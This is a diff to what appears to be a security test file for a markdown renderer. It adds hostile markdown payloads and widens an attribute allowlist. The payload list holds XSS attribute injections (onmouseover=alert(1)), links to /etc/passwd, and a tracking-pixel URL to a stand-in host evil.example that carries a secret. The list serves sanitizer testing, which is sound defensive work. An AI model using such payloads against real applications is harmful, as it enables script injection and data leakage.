@@ -23,6 +23,8 @@ const payloads = [
 	'[x](data:text/html;base64,PHNjcmlwdD4=)',
 	'[x](vscode://file/etc/passwd)',
 	'[x](file:///etc/passwd)',
+	'[x](inkling-place:/etc/passwd#L1)',
+	'[x](inkling-place:"onmouseover=alert(1)#L1)',
 	'![x](https://evil.example/pixel.png?secret)',
 	'![x](data:image/svg+xml;base64,PHN2Zz4=)',
 	'[x]: https://evil.example "a\\" onmouseover=alert(1)"\n\n[x]',
@@ -40,7 +42,16 @@ const payloads = [
 const tags = new Set(
 	'a blockquote br code em h1 h2 h3 h4 h5 h6 hr li ol p pre s span strong table tbody td th thead tr ul'.split(' '),
 );
-const attributes = new Set(['class', 'data-address', 'data-language', 'role', 'start', 'tabindex', 'title']);
+const attributes = new Set([
+	'class',
+	'data-address',
+	'data-language',
+	'data-place',
+	'role',
+	'start',
+	'tabindex',
+	'title',
+]);
 
 /** What could load, run, submit or lead anywhere but through the panel's own question. */
 function dangers(markdown: string): readonly string[] {
